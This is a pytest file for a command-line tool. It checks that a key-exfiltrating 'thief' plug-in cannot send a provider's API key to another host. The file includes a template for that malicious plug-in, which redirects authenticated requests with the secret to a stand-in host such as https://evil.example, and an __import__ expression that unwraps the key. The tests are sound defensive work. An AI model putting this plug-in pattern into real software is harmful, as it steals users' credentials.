"""Where a key may be sent is checked where the request is written, whatever a plug-in's code asks for."""

from collections.abc import Iterator
from pathlib import Path

import pytest
from support.shell import Ran, Shell
from support.stub import Say, Stub

THIEF = """\
from dataclasses import replace

from flux2_acme import INFO as ACME
from flux2_acme import api as acme
from flux2_acme.routes import ROUTES

INTERFACE = 1
INFO = replace(ACME, name="thief", title="Thief", key_variables=(("THIEF_KEY",),))
ELSEWHERE = "{elsewhere}"


class Api:
    def __getattr__(self, name):
        return getattr(acme, name)

    def {function}(self, *arguments, **named):
        request = acme.{function}(*arguments, **named)
        target = next(a for a in arguments if hasattr(a, "base"))
        return replace(request, url=ELSEWHERE + "/taken", auth=("X-Acme-Token", "", {key}))


def load_routes():
    return tuple(replace(route, provider="thief") for route in ROUTES)


def load_api():
    return Api()
"""


@pytest.fixture
def elsewhere() -> Iterator[Stub]:
    """Another server, which answers everything."""
    with Stub() as server:
        server.on("GET", ".*", Say(body={"state": "ready", "picture": "https://x.example"}))
        server.on("POST", ".*", Say(body={"job": "j"}))
        yield server


def run(shell: Shell, stub: Stub, url: str, function: str, *argv: str, folder: Path, key: str = "target.key") -> Ran:
    (folder / f"thief_{function}.py").write_text(THIEF.format(elsewhere=url, function=function, key=key))
    stub.on("POST", "/acme/jobs", Say(body={"job": "job-1"}))
    env = {"FLUX2_PLUGINS": f"thief_{function}", "FLUX2_THIEF_URL": stub.url, "THIEF_KEY": "s3cret-key"}
    return shell.run(*argv, env=env)


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    import sys

    place = tmp_path / "modules"
    place.mkdir()
    monkeypatch.syspath_prepend(str(place))
    yield place
    for name in [name for name in sys.modules if name.startswith("thief_")]:
        del sys.modules[name]


def test_a_submit_that_would_take_the_key_elsewhere_is_not_sent(
    shell: Shell, stub: Stub, elsewhere: Stub, folder: Path
) -> None:
    ran = run(shell, stub, elsewhere.url, "submit", "flash", "x", "-p", "thief", "--json", folder=folder)

    assert (ran.code, ran.json["error"]["code"]) == (1, "internal")
    assert ran.json["error"]["message"] == (
        "A request with the key of Thief was not sent, because it is for http://127.0.0.1: the key does not go there."
    )
    assert elsewhere.seen == stub.seen == []
    assert "s3cret-key" not in ran.out + ran.err
    assert shell.run("jobs", "list", "--json").json[0]["state"] == "not-sent"


def test_a_key_in_a_wrapper_of_the_plug_ins_own_stays_on_this_machine(shell: Shell, stub: Stub, folder: Path) -> None:
    wrapped = "__import__('flux2cli.wire').wire.Secret(target.key.reveal())"

    ran = run(shell, stub, "https://evil.example", "submit", "flash", "x", "-p", "thief", folder=folder, key=wrapped)

    assert ran.code == 1
    assert "A request with a key was not sent, because it is for https://evil.example: the key does" in ran.err


def test_a_poll_that_would_take_the_key_elsewhere_leaves_the_job_as_it_is(
    shell: Shell, stub: Stub, elsewhere: Stub, folder: Path
) -> None:
    ran = run(shell, stub, elsewhere.url, "poll", "flash", "x", "-p", "thief", folder=folder)

    assert ran.code == 1
    assert [seen.path for seen in stub.seen] == ["/acme/jobs"]
    assert elsewhere.seen == []
    assert shell.run("jobs", "list", "--json").json[0]["state"] == "submitted"


def test_doctor_tells_of_it(shell: Shell, stub: Stub, elsewhere: Stub, folder: Path) -> None:
    ran = run(shell, stub, elsewhere.url, "check_key", "doctor", folder=folder)

    assert ran.code == 1
    assert "failed   thief key      A request with the key of Thief was not sent" in ran.out
    assert elsewhere.seen == []
